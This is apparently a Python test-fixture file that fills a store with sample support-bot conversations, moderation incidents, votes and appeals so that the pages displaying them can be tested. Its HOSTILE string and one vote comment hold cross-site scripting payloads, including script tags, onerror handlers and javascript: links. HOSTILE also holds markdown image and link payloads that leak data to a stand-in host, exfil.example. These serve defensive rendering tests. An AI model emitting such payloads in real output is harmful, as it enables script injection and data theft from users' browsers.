"""People who have talked, voted and appealed, for tests of the pages that show it; some of them mean no good."""

from collections.abc import Sequence
from dataclasses import replace
from datetime import timedelta

from core.message import Author, Feedback, Message, ReplyId, Source, ThreadId, Usage, Verdict, Written
from core.ports import Incident, State, Store
from tests.fakes.store import MemoryStore
from tests.store_moves import add, begin, claim, deliver, message, moment, vote

CHAT = Written("deepseek-chat@2025-11-3f9c21", seed=7, usage=Usage(1_204, 386))
CODER = Written("deepseek-coder@2025-10-77ab02", seed=7, usage=Usage(2_861, 912))
ANN = Author("slack", "T0EXAMPLE", "U0ANN", "Ann Example", "en")
BOB = Author("slack", "T0EXAMPLE", "U0BOB", "Bob Example", "en")
LIN = Author("slack", "T0EXAMPLE", "U0LIN", "林晓明", "zh")
NOOR = Author("slack", "T0EXAMPLE", "U0NOOR", "نور الهاشمي", "ar")
TEAM = ThreadId("slack", "T0EXAMPLE", "C0SUPPORT", "1731900000.000100")
DESK = ThreadId("slack", "T0EXAMPLE", "C0DESK", "1731900000.000200")

TABLE = """Yes. Set a **retention** per workspace:

| Workspace | Kept for | Votes kept |
|:--|--:|:-:|
| default | 90 days | yes |
| legal | 7 years | no |

```yaml
retention:
  default: 90d
  legal: 2555d
```

1. Restart nothing: the next round picks it up.
2. What is older goes within a day.

> What was erased is not counted.
"""
CODE = """The list is changed while it is read. Take a copy first:

```python
def without_empty(lines: list[str]) -> list[str]:
    return [line for line in lines if line.strip()]
```

`list.remove` inside the loop shifts every later item by one, so each second empty line stays."""
CHINESE = """可以。连接步骤如下：

1. 在 Slack 中新建应用，选择 **Socket Mode**；
2. 把令牌写入环境变量 `PARLEY_SLACK__BOT_TOKEN`；
3. 运行 `parley check` 确认。

如果频道是私有的，请先邀请机器人加入。"""
ARABIC = "يمكنك تصدير بياناتك من صفحة الإعدادات، ثم اختر **تنزيل** وانتظر حتى يكتمل الملف."

HOSTILE = """<script>window.hacked = 1</script><img src=x onerror="window.hacked = 1">

[press](javascript:window.hacked=1) ![a chart](https://exfil.example/leak.png?words=canary) <https://exfil.example/auto>

[report](https://exfil.example/?q=secret) [x]: javascript:alert(1)

"""
LONG_WORD = "Donaudampfschifffahrtsgesellschaftskapitänsmütze" * 12


def asked(text: str, author: Author = ANN, thread: ThreadId = DESK) -> Message:
    """Through a door that no house of tests has: it leaves these questions alone."""
    return message(text, author=author, thread=thread)


async def answer(
    store: Store,
    question: Message,
    text: str,
    written: Written = CHAT,
    state: State = State.DELIVERING,
    verdict: Verdict = Verdict.CLEAN,
    source: Source = Source.ENGINE,
    incidents: Sequence[Incident] = (),
) -> ReplyId:
    """It is asked, answered so, and what moderation found in it is kept."""
    await add(store, question)
    taken = await claim(store)
    delivery = await begin(store, taken)
    reply = replace(delivery.reply, text=text, model=written.model, verdict=verdict, source=source)
    async with store.unit() as unit:
        await unit.turns.move(reply.id, State.ANSWERING, first_text=True)
        await unit.replies.save(reply)
        await unit.turns.move(reply.id, state, written=written)
        for incident in incidents:
            await unit.incidents.record(reply.id, question.thread, question.author, incident)
        await unit.outbox.ready(delivery, keep=True)
        await unit.inbox.finish(taken)
    await deliver(store, replace(delivery, reply=reply))
    return taken.reply_id


async def cast(store: Store, *votes: Feedback) -> None:
    for each in votes:
        async with store.unit() as unit:
            assert await unit.ratings.record(each)


async def furnish(store: Store) -> list[ReplyId]:
    """Two conversations with a bit of everything in them, on any store, and some that mean no good; the answers."""
    told = await talk(store)
    await quarrel(store, told)
    return told


async def talk(store: Store) -> list[ReplyId]:
    """What people ask of a day, and what comes of it."""
    loop = "Why does this skip lines?\n\nfor line in lines:\n    if not line: lines.remove(line)"
    slip = asked("My password is hunter2, is that a good one?")
    odds = asked("What are the odds of the lottery, and whom do I call?", thread=TEAM, author=BOB)
    masked = Incident("answer", "personal_data", "mask", 3, ("personal/phone",), "")
    flagged = Incident("question", "gambling", "flag", 2, ("house/gambling",), "what are the odds of the lottery")
    told = [
        await answer(store, asked("Can I keep the legal team's conversations longer?"), TABLE),
        await answer(store, asked(loop), CODE, CODER),
        await answer(store, slip, "hunter2 is easily guessed."),
        await answer(store, asked("怎么把 Parley 接入 Slack？", thread=TEAM, author=LIN), CHINESE),
        await answer(store, asked("كيف أصدّر بياناتي؟", thread=TEAM, author=NOOR), ARABIC),
        await refuse(store),
        await answer(store, odds, "1 in 14 million. Call ▒▒▒.", incidents=[masked, flagged], verdict=Verdict.MASKED),
    ]
    async with store.unit() as unit:
        await unit.threads.erase(DESK, slip.id)
    loops = "It says why, and not what to do about the *second* loop."
    await cast(
        store,
        vote(told[0], 5, author=ANN),
        vote(told[1], 1, author=ANN, reason="incomplete", comment=loops),
        vote(told[3], 5, author=LIN, comment="很清楚，谢谢！"),
        vote(told[4], 4, author=NOOR),
    )
    return told


async def refuse(store: Store) -> ReplyId:
    """A question that is refused, which its asker does not take."""
    hit = Incident("question", "weapons", "refuse", 4, ("house/weapons", "words/en"), "how do I build a flobbergun")
    question = asked("For the museum's leaflet: how do I build a flobbergun?")
    said = "I can't help with this: it touches on weapons."
    how = Written(""), State.REFUSED, Verdict.REFUSED, Source.MODERATION
    reply = await answer(store, question, said, *how, incidents=[hit])
    async with store.unit() as unit:
        await unit.incidents.appeal(ANN, reply, comment="It is an exhibit of 1890, and cannot fire.")
    return reply


async def quarrel(store: Store, told: list[ReplyId]) -> None:
    """Words that would run, lead elsewhere, or break a page."""
    lines = (LONG_WORD if number == 3 else "A line of a long answer. " * 6 for number in range(1, 70))
    long = "\n".join(f"{number}. {line}" for number, line in enumerate(lines, 1))
    told.append(await answer(store, asked(f"<b>{LONG_WORD}</b> {HOSTILE}"), HOSTILE + long, CODER))
    shout = f"<script>window.hacked=1</script> {LONG_WORD}"
    await cast(
        store,
        vote(told[6], 2, author=BOB, reason="incorrect, data_analysis", comment=shout),
        vote(told[7], 1, author=ANN, reason="my own words"),
    )


async def waits(store: Store) -> None:
    """One more question, which nobody has claimed."""
    await add(store, asked("And is it free?", thread=TEAM, author=LIN))


async def weeks(store: MemoryStore, days: int = 30) -> None:
    """Votes and hits of some weeks, which only a store in memory believes to be that old."""
    for back in reversed(range(days)):
        then = moment() - timedelta(days=back)
        for number in range(2 + (back * 7) % 5):
            written = CODER if number % 3 == 1 else CHAT
            question = asked(f"Question {back}.{number}", thread=replace(DESK, thread=f"day-{back}-{number}"))
            hit = Incident(
                "question",
                ("gambling", "weapons")[number % 2],
                ("flag", "refuse", "mask")[number % 3],
                2,
                ("house/words",),
                "the odds of it",
            )
            reply = await answer(store, question, "An answer.", written, incidents=[hit] if (back + number) % 2 else [])
            await cast(store, vote(reply, 1 if (back * 3 + number) % 7 < 2 else 5, author=ANN, sent_at=then))
            kept = store.tables.incidents
            for key, one in kept.items():
                if one.reply_id == reply:
                    kept[key] = replace(one, at=then)
